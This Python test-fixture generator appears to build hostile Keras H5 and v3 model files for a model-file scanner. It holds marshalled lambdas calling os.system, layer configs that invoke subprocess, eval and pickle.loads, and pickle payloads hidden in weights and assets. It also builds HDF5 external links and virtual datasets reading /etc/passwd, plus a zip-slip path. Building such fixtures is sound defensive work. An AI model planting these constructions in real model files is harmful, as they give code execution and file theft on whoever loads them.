"""Keras files that act, reach outside or break their reader. Frozen with the generators (scan.py, `FROZEN`)."""

from __future__ import annotations

import base64
import io
import json
import marshal
from collections.abc import Iterator

import h5py
import numpy as np
from scan_assembler import CANARY, COMMAND, as_json
from scan_containers import EVIL, torch_zip, zipped


def _code() -> str:
    return base64.b64encode(marshal.dumps(compile("lambda x: __import__('os').system('true')", "x", "eval"))).decode()


def lambda_config() -> dict[str, object]:
    return _functional([_layer("Lambda", {"name": "l", "function": [_code(), None, None], "function_type": "lambda"})])


def _layer(kind: str, config: dict[str, object], module: str = "keras.layers", registered: str | None = None) -> dict[str, object]:
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered, "name": str(config.get("name", "x"))}


def _functional(layers: list[dict[str, object]]) -> dict[str, object]:
    first = _layer("InputLayer", {"batch_shape": [None, 2], "dtype": "float32", "name": "i"})
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [first, *layers]}, "registered_name": None}


def keras_h5(config: object, *, training: object | None = None, extra: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["backend"] = "tensorflow"
        if training is not None:
            file.attrs["training_config"] = json.dumps(training)
        group = file.create_group("model_weights")
        group.create_dataset("w", data=np.zeros(4, "f4"))
        if extra:
            group.create_dataset("x", data=np.frombuffer(extra, "u1"))
    return out.getvalue()


def keras_v3(config: object, *, weights: bytes | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("layers").create_dataset("w", data=np.zeros(4, "f4"))
    members = {
        "metadata.json": as_json({"keras_version": "3.9.0", "date_saved": "2026-01-01@00:00:00"}),
        "config.json": as_json(config),
        "model.weights.h5": weights or out.getvalue(),
    }
    return zipped({**members, **(extra or {})})


def _configs() -> Iterator[tuple[str, object]]:
    yield "lambda", lambda_config()
    yield (
        "lambda-dict",
        _functional(
            [
                _layer(
                    "Lambda",
                    {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _code(), "defaults": None, "closure": None}}},
                )
            ]
        ),
    )
    yield (
        "lambda-nested-model",
        _functional(
            [_functional([_layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _code()}}})])]
        ),
    )
    yield (
        "lambda-in-wrapper",
        _functional(
            [
                _layer(
                    "TimeDistributed",
                    {
                        "name": "t",
                        "layer": _layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _code()}}}),
                    },
                )
            ]
        ),
    )
    yield (
        "lambda-in-bidirectional",
        _functional(
            [
                _layer(
                    "Bidirectional",
                    {
                        "name": "t",
                        "layer": _layer(
                            "RNN",
                            {
                                "cell": _layer(
                                    "Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _code()}}}
                                )
                            },
                        ),
                    },
                )
            ]
        ),
    )
    yield (
        "function-of-os",
        _functional(
            [
                _layer(
                    "Lambda",
                    {"name": "l", "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}},
                )
            ]
        ),
    )
    yield "class-of-subprocess", _functional([_layer("Popen", {"args": ["touch", CANARY]}, "subprocess")])
    yield (
        "function-of-builtins",
        _functional(
            [
                _layer(
                    "Dense",
                    {
                        "units": 1,
                        "activation": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"},
                    },
                )
            ]
        ),
    )
    yield (
        "initializer-of-os",
        _functional(
            [_layer("Dense", {"units": 1, "kernel_initializer": {"module": "os", "class_name": "system", "config": {"command": COMMAND}}})]
        ),
    )
    yield (
        "regularizer-of-pickle",
        _functional([_layer("Dense", {"units": 1, "kernel_regularizer": {"module": "pickle", "class_name": "loads", "config": {}}})]),
    )
    yield (
        "get-file",
        _functional(
            [
                _layer(
                    "Lambda",
                    {
                        "name": "l",
                        "function": {
                            "module": "keras.utils",
                            "class_name": "function",
                            "config": "get_file",
                            "registered_name": "get_file",
                        },
                        "arguments": {"origin": "http://127.0.0.1:9/x"},
                    },
                )
            ]
        ),
    )
    yield (
        "enable-unsafe",
        _functional(
            [
                _layer(
                    "Lambda",
                    {
                        "name": "l",
                        "function": {
                            "module": "keras.config",
                            "class_name": "function",
                            "config": "enable_unsafe_deserialization",
                            "registered_name": "x",
                        },
                    },
                )
            ]
        ),
    )
    yield (
        "load-model-function",
        _functional(
            [_layer("Lambda", {"name": "l", "function": {"module": "keras.models", "class_name": "function", "config": "load_model"}})]
        ),
    )
    yield (
        "torch-module-wrapper",
        _functional([_layer("TorchModuleWrapper", {"name": "t", "module": base64.b64encode(torch_zip(EVIL)).decode()}, "keras.layers")]),
    )
    yield "tf-sm-layer", _functional([_layer("TFSMLayer", {"name": "t", "filepath": "/tmp/model"}, "keras.layers")])
    yield (
        "jax-layer",
        _functional(
            [_layer("JaxLayer", {"name": "t", "call_fn": {"module": "os", "class_name": "function", "config": "system"}}, "keras.layers")]
        ),
    )
    yield "string-lookup-file", _functional([_layer("StringLookup", {"name": "t", "vocabulary": "/etc/passwd"}, "keras.layers")])
    yield "text-vectorization-file", _functional([_layer("TextVectorization", {"name": "t", "vocabulary": "/etc/passwd"}, "keras.layers")])
    yield (
        "text-vectorization-split",
        _functional(
            [
                _layer(
                    "TextVectorization",
                    {"name": "t", "standardize": {"class_name": "__lambda__", "config": {"code": _code()}}},
                    "keras.layers",
                )
            ]
        ),
    )
    yield "registered-name", _functional([_layer("MyLayer", {"name": "m"}, "custom", "my_package>MyLayer")])
    yield "own-module", _functional([_layer("MyLayer", {"name": "m"}, "evil_package.layers")])
    yield "private-module", _functional([_layer("Functional", {"name": "m"}, "keras.src.utils.file_utils")])
    yield "class-outside-layers", _functional([_layer("FileEditor", {"name": "m", "filepath": "/etc/passwd"}, "keras.saving")])
    yield (
        "optimizer-of-os",
        {**_functional([]), "compile_config": {"optimizer": {"module": "os", "class_name": "system", "config": COMMAND}}},
    )
    yield "loss-lambda", {**_functional([]), "compile_config": {"loss": {"class_name": "__lambda__", "config": {"code": _code()}}}}
    yield "build-config-code", {**_functional([]), "build_config": {"module": "os", "class_name": "system", "config": {}}}
    yield (
        "metric-function",
        {**_functional([]), "compile_config": {"metrics": [{"module": "subprocess", "class_name": "function", "config": "getoutput"}]}},
    )
    yield "deep", json.loads("[" * 300 + "]" * 300)


def keras() -> Iterator[tuple[str, str, bytes]]:
    for label, config in _configs():
        yield "keras-v3", label, keras_v3(config)
        if label != "deep":
            yield "keras-h5", label, keras_h5(config)
    good = _functional([_layer("Dense", {"units": 1, "name": "d"})])
    yield (
        "keras-h5",
        "training-config-lambda",
        keras_h5(good, training={"loss": {"class_name": "__lambda__", "config": {"code": _code()}}, "optimizer_config": {}}),
    )
    yield "keras-v3", "pickle-weights", keras_v3(good, weights=EVIL)
    yield "keras-v3", "extra-pickle", keras_v3(good, extra={"assets/vocab.pkl": EVIL})
    yield "keras-v3", "slip", keras_v3(good, extra={"../../x": b"x"})
    yield "keras-v3", "python-asset", keras_v3(good, extra={"custom/layer.py": b"import os\n"})
    yield "keras-v3", "weights-external-link", keras_v3(good, weights=_linked(soft=False))
    yield "keras-v3", "weights-external-storage", keras_v3(good, weights=_external())
    yield "hdf5", "external-link", _linked(soft=False)
    yield "hdf5", "external-storage", _external()
    yield "hdf5", "virtual-dataset", _virtual()
    yield "hdf5", "truncated", keras_h5(good)[:900]
    yield "hdf5", "trailing-pickle", keras_h5(good) + EVIL


def _linked(*, soft: bool) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file["layers"] = h5py.SoftLink("/x") if soft else h5py.ExternalLink("/etc/passwd", "/")
    return out.getvalue()


def _external() -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_dataset("w", shape=(16,), dtype="u1", external=[("/etc/passwd", 0, 16)])
    return out.getvalue()


def _virtual() -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource("/etc/passwd", "x", shape=(4,))
        file.create_virtual_dataset("w", layout)
    return out.getvalue()
